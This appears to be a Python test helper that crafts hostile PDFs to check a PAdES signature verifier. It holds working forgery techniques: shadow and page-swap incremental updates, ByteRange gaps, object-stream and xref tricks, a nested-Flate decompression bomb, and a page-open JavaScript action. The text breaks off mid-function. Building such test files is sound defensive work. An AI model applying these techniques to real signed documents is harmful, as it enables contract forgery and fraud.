#!/usr/bin/env python3
"""Crafts hostile PDFs from signed ones for tests/cli/test_pades.sh.  Not part of tsign.

  pdf_attacks.py content IN OUT [TEXT]  an incremental update that redefines page 1's content stream
                                        (same object number) with other text: the shadow attack a
                                        verifier that only checks the ByteRange accepts
  pdf_attacks.py swap-page IN OUT       an incremental update with a new page object (other content)
                                        and the page tree's /Kids pointing to it instead of the signed page
  pdf_attacks.py sneaky IN OUT          an incremental update adding an unsigned signature field whose
                                        widget covers page 1 with an appearance of other text (the
                                        "sneaky signature" attack on approval signatures)
  pdf_attacks.py gap IN OUT [N]         the last signature's ByteRange edited in place (same width):
                                        the second range starts N bytes later (default 4), so the
                                        ranges leave out more than the /Contents string
  pdf_attacks.py pad IN OUT             the last signature's /Contents: the last 16 hex digits of its
                                        zero padding become non-zero data (outside the signed ranges)
  pdf_attacks.py flip IN OUT            one byte inside the data of the file's first stream (signed by
                                        every signature) changed; offsets stay the same
  pdf_attacks.py hybrid IN OUT [deep]   an incremental update whose trailer has /XRefStm (a hybrid-
                                        reference file, ISO 32000-1 §7.5.8.4) pointing to a valid
                                        cross-reference stream; with deep, one more classic update
                                        after it (the hybrid section is not the last one)

The hostile reviews' attacks, for tests/cli/test_pades_attacks.sh (F1..F13, A1..A7; "-prep" commands
make the file to sign, the others attack a signed one; PAY = "PAY 9,999,999,999 RIAL" in Helvetica):
  pdf_attacks.py attached IN OUT CMS.der     F1: the last /Contents replaced by another (attached) CMS
  pdf_attacks.py objstm-prep IN OUT          F2: page 1 moved into an object stream whose /First is an
                                             indirect integer; the stream also holds a page showing PAY
  pdf_attacks.py objstm-first IN OUT         F2: that /First redefined to point to the PAY page
  pdf_attacks.py acroform-prep IN OUT        F3: a direct /AcroForm that also carries a page's keys (PAY)
  pdf_attacks.py acroform-page IN OUT        F3: /AcroForm -> page 1's object, page 1 := the signed /AcroForm
  pdf_attacks.py bigint IN OUT               F4/F11: page 1's content stream dictionary gets a 20-digit
                                             integer (/PieceInfo); Helvetica added to its resources
  pdf_attacks.py bigint-forge IN OUT         F4: that content stream redefined (PAY), same integer
  pdf_attacks.py sign-raw IN OUT KEY CERT CHAIN PASS_ENV
                                             an invisible signature Signature1 made with openssl cms
                                             (for files tsign refuses to sign)
  pdf_attacks.py overlay-prep IN OUT         F5: page 1 draws a form XObject /Ov (a red box) first
  pdf_attacks.py gen1 IN OUT                 F5: /Ov's object number redefined at generation 1
  pdf_attacks.py free IN OUT [xs]            F5: /Ov's object number freed
  pdf_attacks.py stamp-prep IN OUT           F6: a Stamp annotation with /T over page 1, empty appearance
  pdf_attacks.py stamp-ap IN OUT             F6: its appearance replaced (PAY on a white page)
  pdf_attacks.py sig-annot IN OUT KIND       F7: a /FT /Sig annotation on page 1 only: widget (unsigned,
                                             page-covering PAY appearance), freetext, aa (/AA /PO JavaScript)
  pdf_attacks.py font-descriptor IN OUT      F8: a CIDFontType2 font gets another font's /FontDescriptor
  pdf_attacks.py dss-bomb IN OUT [MIB]       F9: /DSS /Certs: a Flate-in-Flate stream of MIB (1024) MiB of zeros
  pdf_attacks.py shared-v IN OUT [N]         F10: N (1000) more signature fields with the first field's /V
  pdf_attacks.py field-name IN OUT KIND      F13: a field Signature1: kids (non-terminal) or dup (a text field)
The second review's attacks (A1..A7):
  pdf_attacks.py hidden-bodies IN OUT        A1: trailer /Info -> 9999 0 R (missing: poppler rebuilds its
                                             xref) and an unreferenced stream holding other bodies for
                                             page 1's content (PAY) and resources at line starts
  pdf_attacks.py hidden-bodies-xref IN OUT   A1 with a fake section and startxref inside the stream
                                             "listing" the hidden body
  pdf_attacks.py objstm-bomb IN OUT          an object stream decoding to 80 MiB (over the 64 MiB limit)
  pdf_attacks.py objstm-dup IN OUT           A2: an object stream listing page 1 twice (0: forged, 1: the
                                             signed page), the xref entry (stream, 0)
  pdf_attacks.py form-prep IN OUT            A3: a text field without /AP, drawn from /AcroForm /DA and /DR
  pdf_attacks.py form-default IN OUT KIND    A3: t3 (/DR /Helv := a Type 3 font drawing '1' as '9') or
                                             da (/DA made white)
  pdf_attacks.py free IN OUT xs              A4: /Ov freed by a type-0 entry of a cross-reference stream
  pdf_attacks.py dangle-prep IN OUT          A5: page 1's /Contents also refers to object 500 (undefined)
  pdf_attacks.py dangle-define IN OUT        A5: object 500 defined (PAY)
  pdf_attacks.py empty-sig-prep IN OUT       A6: an empty signature field Approver2 on page 1
  pdf_attacks.py empty-sig-ap IN OUT         A6: Approver2 given an appearance (PAY), no /V
  pdf_attacks.py info IN OUT                 A7: trailer /Info pointed to a new object (title PAY)
These read classic or cross-reference-stream sections and append the same kind (append_any), but
objstm-dup and free xs, which always append a cross-reference stream.

Otherwise only for classic cross-reference tables (the last section of IN must be 'xref ... trailer')
and objects that are not in object streams, which is what tsign writes on the example minute.
Writes raw bytes; no PDF library (sign-raw runs openssl).
"""
import re
import struct
import subprocess
import sys
import zlib


def die(msg):
    sys.stderr.write("pdf_attacks.py: " + msg + "\n")
    sys.exit(2)


def startxref(b):
    i = b.rfind(b"startxref")
    if i < 0:
        die("no startxref")
    return int(re.match(rb"startxref\s+(\d+)", b[i:]).group(1))


def last_trailer(b):
    sx = startxref(b)
    if not b[sx:sx + 4] == b"xref":
        die("the last cross-reference section is not a classic table")
    t = b.rfind(b"trailer", sx)
    end = b.find(b"startxref", t)
    return b[t:end], sx


def trailer_root_size(b):
    t, sx = last_trailer(b)
    root = re.search(rb"/Root\s+(\d+)\s+(\d+)\s+R", t)
    size = re.search(rb"/Size\s+(\d+)", t)
    if not root or not size:
        die("no /Root or /Size in the last trailer")
    return int(root.group(1)), int(size.group(1)), sx


def object_text(b, num):
    """The last definition of object num (generation 0): its dictionary text (before 'stream' or 'endobj')."""
    last = None
    for m in re.finditer(rb"(?<![0-9])%d 0 obj" % num, b):
        last = m
    if last is None:
        die("object %d not found" % num)
    start = last.end()
    end = b.find(b"endobj", start)
    body = b[start:end]
    s = body.find(b"stream")
    return (body[:s] if s >= 0 else body).strip()


def ref(d, key):
    m = re.search(rb"%s\s+(\d+)\s+0\s+R" % re.escape(key), d)
    if not m:
        die("no %s reference in %r" % (key.decode(), d[:200]))
    return int(m.group(1))


def first_page(b):
    root, _, _ = trailer_root_size(b)
    pages = ref(object_text(b, root), b"/Pages")
    pt = object_text(b, pages)
    kid = re.search(rb"/Kids\s*\[\s*(\d+)\s+0\s+R", pt)
    if not kid:
        die("no /Kids in the page tree")
    return pages, pt, int(kid.group(1))


def append_update(b, objects, size):
    """objects: {num: body bytes}. A classic xref section with /Prev; returns the new file."""
    _, _, prev = trailer_root_size(b)
    t, _ = last_trailer(b)
    keep = b""
    for key in (rb"/Root\s+\d+\s+\d+\s+R", rb"/Info\s+\d+\s+\d+\s+R", rb"/ID\s*\[[^\]]*\]"):
        m = re.search(key, t)
        if m:
            keep += b" " + m.group(0)
    out = bytearray(b)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for num in sorted(objects):
        out += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
    out += b"trailer\n<< /Size %d%s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, keep, prev, xref)
    return bytes(out)


def stream(data, extra=b""):
    return b"<<" + extra + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def forged_content(text):
    return b"q 1 1 1 rg 0 0 595 842 re f Q BT 0 0 0 rg /F1 28 Tf 72 700 Td (" + text + b") Tj ET"


def cmd_content(b, args):
    text = (args[0] if args else "FORGED: contract amount 9,999,999").encode()
    _, _, page = first_page(b)
    content = ref(object_text(b, page), b"/Contents")
    _, size, _ = trailer_root_size(b)
    return append_update(b, {content: stream(forged_content(text))}, size)


def cmd_swap_page(b, args):
    pages, pt, page = first_page(b)
    _, size, _ = trailer_root_size(b)
    new_page, new_content = size, size + 1
    pd = object_text(b, page)
    pd = re.sub(rb"/Contents\s+\d+\s+0\s+R", b"/Contents %d 0 R" % new_content, pd)
    # Helvetica as /F1, so that the forged text shows (and pdftotext finds it)
    font = b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    pd, n = re.subn(rb"/Resources\s+\d+\s+0\s+R", font, pd)
    if n != 1:
        die("the page's /Resources is not a reference")
    pt = re.sub(rb"/Kids\s*\[\s*%d\s+0\s+R" % page, b"/Kids [ %d 0 R" % new_page, pt)
    return append_update(b, {pages: pt, new_page: pd, new_content: stream(forged_content(b"SWAPPED PAGE"))}, size + 2)


def append_to_array(d, key, item):
    m = re.search(rb"%s\s*\[([^\]]*)\]" % re.escape(key), d)
    if not m:
        die("no direct %s array" % key.decode())
    return d[:m.end(1)] + b" " + item + b" " + d[m.end(1):]


def cmd_sneaky(b, args):
    root, size, _ = trailer_root_size(b)
    _, _, page = first_page(b)
    widget, ap = size, size + 1
    pd = append_to_array(object_text(b, page), b"/Annots", b"%d 0 R" % widget)
    cat = append_to_array(object_text(b, root), b"/Fields", b"%d 0 R" % widget)
    w = (b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sneaky) /F 4 /Rect [0 0 595 842] /P %d 0 R /AP << /N %d 0 R >> >>"
         % (page, ap))
    data = forged_content(b"FORGED: contract amount 9,999,999")
    x = (b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 << /Type /Font /Subtype /Type1"
         b" /BaseFont /Helvetica >> >> >> /Length %d >>\nstream\n" % len(data)) + data + b"\nendstream"
    return append_update(b, {root: cat, page: pd, widget: w, ap: x}, size + 2)


def last_signature(b):
    m = None
    for m in re.finditer(rb"/ByteRange\s*\[([^\]]*)\]", b):
        pass
    if m is None:
        die("no /ByteRange")
    return m


def cmd_gap(b, args):
    n = int(args[0]) if args else 4
    m = last_signature(b)
    v = [int(x) for x in m.group(1).split()]
    v[2] += n
    v[3] -= n
    text = b"0 %d %d %d" % (v[1], v[2], v[3])
    width = len(m.group(1))
    if len(text) > width:
        die("the new ByteRange does not fit")
    out = bytearray(b)
    out[m.start(1):m.end(1)] = text.ljust(width)
    return bytes(out)


def cmd_pad(b, args):
    m = last_signature(b)
    v = [int(x) for x in m.group(1).split()]
    gt = v[2] - 1  # '>' of /Contents
    if b[gt:gt + 1] != b">" or b[gt - 16:gt] != b"0" * 16:
        die("the /Contents does not end with 16 zero hex digits")
    out = bytearray(b)
    out[gt - 16:gt] = b"DEADBEEFCAFEF00D"
    return bytes(out)


def cmd_flip(b, args):
    i = b.find(b"stream\n")
    if i < 0:
        die("no stream")
    at = i + 7 + 10
    out = bytearray(b)
    out[at] ^= 0x01
    return bytes(out)


def cmd_hybrid(b, args):
    _, size, prev = trailer_root_size(b)
    t, _ = last_trailer(b)
    root = re.search(rb"/Root\s+\d+\s+\d+\s+R", t).group(0)
    out = bytearray(b)
    if not out.endswith(b"\n"):
        out += b"\n"
    dummy, xs = size, size + 1
    off_dummy = len(out)
    out += b"%d 0 obj\n<< /Note (hybrid) >>\nendobj\n" % dummy
    # the cross-reference stream: an entry for the dummy object (type 1)
    rows = b"\x01" + off_dummy.to_bytes(4, "big") + b"\x00"
    data = zlib.compress(rows)
    off_xs = len(out)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Index [%d 1] /Filter /FlateDecode /Length %d >>\nstream\n"
            % (xs, size + 2, dummy, len(data))) + data + b"\nendstream\nendobj\n"
    xref = len(out)
    out += b"xref\n%d 2\n%010d 00000 n \n%010d 00000 n \n" % (dummy, off_dummy, off_xs)
    out += b"trailer\n<< /Size %d %s /Prev %d /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n" % (size + 2, root, prev, off_xs, xref)
    if args and args[0] == "deep":  # one more ordinary update on top: the hybrid section is no longer the last
        return append_update(bytes(out), {size + 2: b"<< /Note (later) >>"}, size + 3)
    return bytes(out)


# --- the review's attacks (tests/cli/test_pades_attacks.sh): any last section, classic or stream --

PAY = b"PAY 9,999,999,999 RIAL"
HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
BIG = b"99999999999999999999"  # more than 64 bits: qpdf cannot hold it, other readers parse it
# a white page with PAY written on it in Helvetica (/F9), as content or as an appearance
COVER = b"q 1 1 1 rg 0 0 595 842 re f Q BT 0 0 0 rg /F9 40 Tf 50 700 Td (" + PAY + b") Tj ET"
COVER_FORM = b" /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F9 " + HELVETICA + b" >> >>"


def trailer_any(b):
    """The last section's trailer (classic) or cross-reference stream dictionary: root, info and id
    (their text, or None), size, prev (that section's offset), stream (a cross-reference stream)."""
    sx = startxref(b)
    classic = b[sx:sx + 4] == b"xref"
    if classic:
        t = b.find(b"trailer", sx)
        d = b[t:b.find(b"startxref", t)]
    else:
        d = b[sx:b.find(b"stream", sx)]

    def get(key):
        m = re.search(rb"/" + key + rb"\s+(\d+\s+\d+\s+R)", d)
        return m.group(1) if m else None
    size = re.search(rb"/Size\s+(\d+)", d)
    ident = re.search(rb"/ID\s*(\[[^\]]*\])", d)
    if not size or not get(b"Root"):
        die("no /Root or /Size in the last trailer")
    return {"root": get(b"Root"), "info": get(b"Info"), "id": ident.group(1) if ident else None,
            "size": int(size.group(1)), "prev": sx, "stream": not classic}


def root_num(b):
    return int(trailer_any(b)["root"].split()[0])


def append_any(b, objects, gens=None, free=(), compressed=None, stream_section=None, info=None):
    """An incremental update: objects ({num: body}) at generation gens.get(num, 0); free entries
    (next generation 1) for the numbers in free; compressed ({num: (object stream, index)}) entries
    of type 2.  A cross-reference stream after a stream section (or with compressed entries, or as
    stream_section says), a classic table after a classic one.  The trailer keeps /Root, /Info and
    /ID; info (a reference's text, b"N 0 R") replaces /Info."""
    t = trailer_any(b)
    gens = gens or {}
    compressed = compressed or {}
    xs = stream_section if stream_section is not None else (t["stream"] or bool(compressed))
    out = bytearray(b)
    if not out.endswith(b"\n"):
        out += b"\n"
    entries = {}
    for num in sorted(objects):
        entries[num] = (1, len(out), gens.get(num, 0))
        out += b"%d %d obj\n" % (num, gens.get(num, 0)) + objects[num] + b"\nendobj\n"
    for num in free:
        entries[num] = (0, 0, 1)
    for num, (os_num, idx) in compressed.items():
        entries[num] = (2, os_num, idx)
    size = max([t["size"]] + [n + 1 for n in entries])
    keys = b" /Root " + t["root"]
    if info or t["info"]:
        keys += b" /Info " + (info or t["info"])
    if t["id"]:
        keys += b" /ID " + t["id"]
    keys += b" /Prev %d" % t["prev"]
    at = len(out)
    if xs:
        entries[size] = (1, at, 0)  # the cross-reference stream itself
        size += 1
    runs = []
    for n in sorted(entries):
        if runs and runs[-1][0] + len(runs[-1][1]) == n:
            runs[-1][1].append(entries[n])
        else:
            runs.append([n, [entries[n]]])
    if not xs:
        out += b"xref\n"
        for first, es in runs:
            out += b"%d %d\n" % (first, len(es))
            for kind, off, gen in es:
                out += b"%010d %05d %s \n" % (off, gen, b"n" if kind else b"f")
        out += b"trailer\n<< /Size %d%s >>\nstartxref\n%d\n%%%%EOF\n" % (size, keys, at)
    else:
        data = b"".join(struct.pack(">BIH", k, o, g) for _, es in runs for k, o, g in es)
        index = b" ".join(b"%d %d" % (first, len(es)) for first, es in runs)
        out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%s]%s /Length %d >>\nstream\n"
                % (size - 1, size, index, keys, len(data)) + data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at)
    return bytes(out)


def object_body(b, num, gen=0, must=True):
    """The whole body of the last 'num gen obj' in the file (dictionary and stream), or None."""
    last = None
    for m in re.finditer(rb"(?<![0-9])%d %d obj" % (num, gen), b):
        last = m
    if last is None:
        if must:
            die("object %d not found" % num)
        return None
    start = last.end()
    end = b.find(b"endobj", start)
    s = b.find(b"stream", start)
    if 0 <= s < end:  # a stream: its data may hold anything before endstream
        end = b.find(b"endobj", b.find(b"endstream", s))
    return b[start:end].strip()


def dict_value(body, key):
    """The value after key in body: a balanced << >> or [ ], or one token (a reference counts as one)."""
    i = body.index(key) + len(key)
    while body[i:i + 1] in b" \r\n\t":
        i += 1
    if body[i:i + 2] == b"<<" or body[i:i + 1] == b"[":
        depth, j = 0, i
        while True:
            if body[j:j + 1] == b"(":  # a literal string: skip it
                k = j + 1
                while body[k:k + 1] != b")":
                    k += 2 if body[k:k + 1] == b"\\" else 1
                j = k + 1
                continue
            if body[j:j + 2] in (b"<<", b">>"):
                depth += 1 if body[j:j + 2] == b"<<" else -1
                j += 2
            elif body[j:j + 1] in (b"[", b"]"):
                depth += 1 if body[j:j + 1] == b"[" else -1
                j += 1
            else:
                j += 1
                continue
            if depth == 0:
                return body[i:j]
    m = re.match(rb"\d+\s+\d+\s+R|<[0-9A-Fa-f\s]*>|\([^)]*\)|/[^\s/\[\]<>()]+|[^\s/\[\]<>()]+", body[i:])
    return m.group(0)


def dict_add(d, text):
    """The dictionary d (text ending with >>) with one more entry."""
    d = d.rstrip()
    if not d.endswith(b">>"):
        die("not a dictionary: %r" % d[-40:])
    return d[:-2].rstrip() + b" " + text + b" >>"


def page_one_any(b):
    """Page 1's object number, following the catalog's /Pages /Kids (any section kind)."""
    pages = ref(object_body(b, root_num(b)), b"/Pages")
    kid = re.search(rb"/Kids\s*\[\s*(\d+)\s+0\s+R", object_body(b, pages))
    if not kid:
        die("no /Kids in the page tree")
    return int(kid.group(1))


def with_helvetica(res):
    """A resource dictionary with Helvetica as /F9 added to its /Font."""
    if b"/Font <<" not in res:
        die("the resources have no direct /Font dictionary")
    return res.replace(b"/Font <<", b"/Font << /F9 " + HELVETICA, 1)


def add_annotation(b, page, num):
    """Objects that put annotation num on page's /Annots (direct, indirect or none yet)."""
    pd = object_body(b, page)
    m = re.search(rb"/Annots\s+(\d+)\s+0\s+R", pd)
    if m:
        arr = object_body(b, int(m.group(1))).rstrip()
        return {int(m.group(1)): arr[:-1].rstrip() + b" %d 0 R]" % num}
    if b"/Annots" in pd:
        return {page: append_to_array(pd, b"/Annots", b"%d 0 R" % num)}
    return {page: dict_add(pd, b"/Annots [%d 0 R]" % num)}


def cmd_attached(b, args):
    """F1: the last signature's /Contents replaced by another CMS (an attached one), ByteRange kept."""
    if not args:
        die("attached needs CMS.der")
    m = last_signature(b)
    v = [int(x) for x in m.group(1).split()]
    lt, gt = v[1], v[2] - 1
    if b[lt:lt + 1] != b"<" or b[gt:gt + 1] != b">":
        die("the ByteRange gap is not the /Contents string")
    hx = open(args[0], "rb").read().hex().upper().encode()
    if len(hx) > gt - lt - 1:
        die("the CMS does not fit in /Contents")
    out = bytearray(b)
    out[lt + 1:gt] = hx.ljust(gt - lt - 1, b"0")
    return bytes(out)


def cmd_objstm_prep(b, args):
    """F2, before signing: page 1 moved into an object stream whose /First is an indirect integer.
    The stream holds two copies of the page after its header: A (the signed page, plus an empty
    indirect /Annots) at /First, and B (PAY content, Helvetica) after it."""
    n = trailer_any(b)["size"]
    page = page_one_any(b)
    pd = object_body(b, page)
    res = object_body(b, ref(pd, b"/Resources"))
    content, objstm, first, annots = n, n + 1, n + 2, n + 3
    a = dict_add(pd, b"/Annots %d 0 R" % annots)
    pb = re.sub(rb"/Contents\s+\d+\s+0\s+R", b"/Contents %d 0 R" % content, a)
    pb = re.sub(rb"/Resources\s+\d+\s+0\s+R", lambda _: b"/Resources " + with_helvetica(res), pb)
    head = b"%d 0 " % page
    data = head + a + b"\n" + pb + b"\n"
    objs = {content: stream(COVER), objstm: stream(data, b" /Type /ObjStm /N 1 /First %d 0 R" % first),
            first: b"%d" % len(head), annots: b"[]"}
    return append_any(b, objs, compressed={page: (objstm, 0)})


def cmd_objstm_first(b, args):
    """F2, after signing: only the value of the object stream's indirect /First changes (to page B)."""
    m = None
    for m in re.finditer(rb"(?<![0-9])(\d+) 0 obj\s*<< /Type /ObjStm /N 1 /First (\d+) 0 R /Length (\d+) >>\nstream\n", b):
        pass
    if m is None:
        die("no object stream with an indirect /First")
    data = b[m.end():m.end() + int(m.group(3))]
    return append_any(b, {int(m.group(2)): b"%d" % (data.index(b"\n") + 1)})


def cmd_acroform_prep(b, args):
    """F3, before signing: the catalog's /AcroForm (direct) also carries a page's keys, with /Contents
    pointing to PAY content; page 1 gets an empty indirect /Annots."""
    n = trailer_any(b)["size"]
    root, page = root_num(b), page_one_any(b)
    pd = object_body(b, page)
    res = object_body(b, ref(pd, b"/Resources"))
    content, annots = n, n + 1
    a = dict_add(pd, b"/Annots %d 0 R" % annots)
    shadow = re.sub(rb"/Contents\s+\d+\s+0\s+R", b"/Contents %d 0 R" % content, a)
    shadow = re.sub(rb"/Resources\s+\d+\s+0\s+R", lambda _: b"/Resources " + with_helvetica(res), shadow)
    cat = dict_add(object_body(b, root), b"/AcroForm " + dict_add(shadow, b"/Fields []"))
    return append_any(b, {root: cat, page: a, content: stream(COVER), annots: b"[]"})


def cmd_acroform_page(b, args):
    """F3, after signing: /AcroForm points to page 1's object, and page 1 becomes the signed /AcroForm."""
    root, page = root_num(b), page_one_any(b)
    cat = object_body(b, root)
    af = dict_value(cat, b"/AcroForm")
    if not af.startswith(b"<<"):
        die("/AcroForm is not a direct dictionary")
    return append_any(b, {root: cat.replace(af, b"%d 0 R" % page), page: af})


def cmd_bigint(b, args):
    """F4/F11: page 1's content stream (kept) gets /PieceInfo with a 20-digit integer in its
    dictionary; Helvetica (/F9) added to the page's resources (unused)."""
    pd = object_body(b, page_one_any(b))
    content, resn = ref(pd, b"/Contents"), ref(pd, b"/Resources")
    return append_any(b, {content: object_body(b, content).replace(b"<<", b"<< /PieceInfo " + BIG, 1),
                          resn: with_helvetica(object_body(b, resn))})


def cmd_bigint_forge(b, args):
    """F4, after signing: page 1's content stream redefined (PAY), its dictionary with the same integer."""
    content = ref(object_body(b, page_one_any(b)), b"/Contents")
    return append_any(b, {content: stream(COVER, b" /PieceInfo " + BIG)})


def cmd_sign_raw(b, args):
    """Signs IN with openssl cms (detached CAdES, SHA-256) in an incremental update: an invisible
    signature field Signature1 (the catalog must have no /AcroForm).  For files tsign refuses to
    sign.  Args: KEY CERT CHAIN PASS_ENV (the variable holding the key's passphrase)."""
    if len(args) < 4:
        die("sign-raw needs KEY CERT CHAIN PASS_ENV")
    key, cert, chain, passenv = args[:4]
    n = trailer_any(b)["size"]
    root, page = root_num(b), page_one_any(b)
    cat = object_body(b, root)
    if b"/AcroForm" in cat:
        die("the catalog already has /AcroForm")
    widget, sig = n, n + 1
    objs = add_annotation(b, page, widget)
    objs[root] = dict_add(cat, b"/AcroForm << /Fields [%d 0 R] /SigFlags 3 >>" % widget)
    objs[widget] = (b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /F 132 /Rect [0 0 0 0] /P %d 0 R /V %d 0 R >>"
                    % (page, sig))
    placeholder = b"[0 0000000000 0000000000 0000000000]"
    objs[sig] = (b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /M (D:20260101000000Z) /ByteRange "
                 + placeholder + b" /Contents <" + b"0" * 16384 + b"> >>")
    out = bytearray(append_any(b, objs))
    at = out.rfind(b"%d 0 obj" % sig)
    lt = out.index(b"/Contents <", at) + 10
    gt = out.index(b">", lt)
    j = out.index(placeholder, at)
    out[j:j + len(placeholder)] = (b"[0 %d %d %d]" % (lt, gt + 1, len(out) - gt - 1)).ljust(len(placeholder))
    r = subprocess.run(["openssl", "cms", "-sign", "-binary", "-cades", "-nosmimecap", "-md", "sha256", "-signer", cert,
                        "-inkey", key, "-certfile", chain, "-passin", "env:" + passenv, "-outform", "DER"],
                       input=bytes(out[:lt]) + bytes(out[gt + 1:]), capture_output=True)
    if r.returncode != 0:
        die("openssl cms: " + r.stderr.decode(errors="replace"))
    hx = r.stdout.hex().upper().encode()
    if len(hx) > gt - lt - 1:
        die("the CMS does not fit in /Contents")
    out[lt + 1:gt] = hx.ljust(gt - lt - 1, b"0")
    return bytes(out)


def cmd_overlay_prep(b, args):
    """F5, before signing: page 1 first draws a form XObject (/Ov, a red box over the top half),
    then its content; an empty indirect /Annots."""
    n = trailer_any(b)["size"]
    page = page_one_any(b)
    pd = object_body(b, page)
    resn = ref(pd, b"/Resources")
    ov, cs, annots = n, n + 1, n + 2
    pd = re.sub(rb"/Contents\s+(\d+)\s+0\s+R", lambda m: b"/Contents [%d 0 R %s 0 R]" % (cs, m.group(1)), pd)
    return append_any(b, {page: dict_add(pd, b"/Annots %d 0 R" % annots),
                          resn: dict_add(object_body(b, resn), b"/XObject << /Ov %d 0 R >>" % ov),
                          ov: stream(b"1 0 0 rg 0 421 595 421 re f", b" /Type /XObject /Subtype /Form /BBox [0 0 595 842]"),
                          cs: stream(b"q /Ov Do Q"), annots: b"[]"})


def overlay_num(b):
    m = None
    for m in re.finditer(rb"/Ov\s+(\d+)\s+0\s+R", b):
        pass
    if m is None:
        die("no /Ov XObject")
    return int(m.group(1))


def cmd_gen1(b, args):
    """F5, after signing: the /Ov XObject's number redefined at generation 1 (an empty form):
    '/Ov N 0 R' now names a free object for readers that follow the spec."""
    ov = overlay_num(b)
    return append_any(b, {ov: stream(b"", b" /Type /XObject /Subtype /Form /BBox [0 0 1 1]")}, gens={ov: 1})


def cmd_free(b, args):
    """F5, after signing: the /Ov XObject's number freed (an 'f' entry, next generation 1); with xs
    (A4) in a cross-reference stream (a type-0 entry), also after a classic table."""
    if args and args[0] != "xs":
        die("free: [xs]")
    return append_any(b, {}, free=(overlay_num(b),), stream_section=True if args else None)


def cmd_stamp_prep(b, args):
    """F6, before signing: a Stamp annotation with an author (/T) over page 1, its appearance empty."""
    n = trailer_any(b)["size"]
    page = page_one_any(b)
    objs = add_annotation(b, page, n)
    objs[n] = (b"<< /Type /Annot /Subtype /Stamp /T (Secretary) /Contents (reviewed) /Rect [0 0 595 842] /F 4 /P %d 0 R"
               b" /AP << /N %d 0 R >> >>" % (page, n + 1))
    objs[n + 1] = stream(b"", COVER_FORM)
    return append_any(b, objs)


def cmd_stamp_ap(b, args):
    """F6, after signing: the Stamp annotation's /AP /N replaced by a new appearance (a white page, PAY)."""
    m = None
    for m in re.finditer(rb"(?<![0-9])(\d+) 0 obj\s*<< /Type /Annot /Subtype /Stamp", b):
        pass
    if m is None:
        die("no Stamp annotation")
    num, n = int(m.group(1)), trailer_any(b)["size"]
    body = re.sub(rb"/AP << /N \d+ 0 R >>", b"/AP << /N %d 0 R >>" % n, object_body(b, num))
    return append_any(b, {num: body, n: stream(COVER, COVER_FORM)})


def cmd_sig_annot(b, args):
    """F7, after signing: an annotation claiming /FT /Sig added to page 1's /Annots (not to /Fields):
    widget  an unsigned signature widget whose appearance covers the page (white, PAY)
    freetext  a FreeText annotation with /FT /Sig and the same appearance
    aa  a signature widget, zero-size, with an /AA /PO JavaScript action (runs when the page opens)"""
    kind = args[0] if args else "widget"
    n = trailer_any(b)["size"]
    page = page_one_any(b)
    annots = {
        "widget": b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Extra) /F 4 /Rect [0 0 595 842] /P %d 0 R /AP << /N %d 0 R >> >>"
                  % (page, n + 1),
        "freetext": b"<< /Type /Annot /Subtype /FreeText /FT /Sig /F 4 /Rect [0 0 595 842] /DA (/Helv 40 Tf 1 0 0 rg) /Contents ("
                    + PAY + b") /AP << /N %d 0 R >> >>" % (n + 1),
        "aa": b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Extra2) /F 4 /Rect [0 0 0 0] /P %d 0 R"
              b" /AA << /PO << /S /JavaScript /JS (app.alert\\(\"pwned\"\\)) >> >> >>" % page}
    if kind not in annots:
        die("sig-annot: widget, freetext or aa")
    objs = add_annotation(b, page, n)
    objs[n] = annots[kind]
    if kind != "aa":
        objs[n + 1] = stream(COVER, COVER_FORM)
    return append_any(b, objs)


def cmd_font_descriptor(b, args):
    """F8: a CIDFontType2 font (else the first font) gets another font's /FontDescriptor (its glyph program)."""
    fonts = []
    for num in range(1, trailer_any(b)["size"]):
        body = object_body(b, num, must=False)
        m = body and re.search(rb"/FontDescriptor\s+(\d+)\s+0\s+R", body)
        if m:
            fonts.append((b"/CIDFontType2" not in body, num, body, int(m.group(1))))
    if len({f[3] for f in fonts}) < 2:
        die("fewer than two font descriptors")
    _, num, body, fd = sorted(fonts)[0]
    other = next(f[3] for f in fonts if f[3] != fd)
    return append_any(b, {num: body.replace(b"/FontDescriptor %d 0 R" % fd, b"/FontDescriptor %d 0 R" % other)})


def cmd_dss_bomb(b, args):
    """F9: a /DSS added whose /Certs stream is Flate inside Flate: a few KB that decode to MIB
    MiB (default 1024) of zeros.  Built from one 16 MiB deflate block repeated (full flushes)."""
    mib = int(args[0]) if args else 1024
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(b"\0" * (16 << 20)) + c.flush(zlib.Z_FULL_FLUSH)
    count = max(1, mib // 16)
    total = count * (16 << 20)
    inner = b"\x78\xda" + block * count + b"\x03\x00" + struct.pack(">I", ((total % 65521) << 16) | 1)
    n, root = trailer_any(b)["size"], root_num(b)
    cat = dict_add(object_body(b, root), b"/DSS << /Certs [%d 0 R] >>" % n)
    return append_any(b, {root: cat, n: stream(zlib.compress(inner, 9), b" /Filter [/FlateDecode /FlateDecode]")})


def cmd_shared_v(b, args):
    """F10: N (default 1000) more signature fields in /Fields, all with the first field's /V."""
    count = int(args[0]) if args else 1000
    n, root = trailer_any(b)["size"], root_num(b)
    cat = object_body(b, root)
    af = dict_value(cat, b"/AcroForm")
    if not af.startswith(b"<<"):
        die("/AcroForm is not a direct dictionary")
    fields = dict_value(af, b"/Fields")
    v = dict_value(object_body(b, int(fields[1:-1].split()[0])), b"/V")
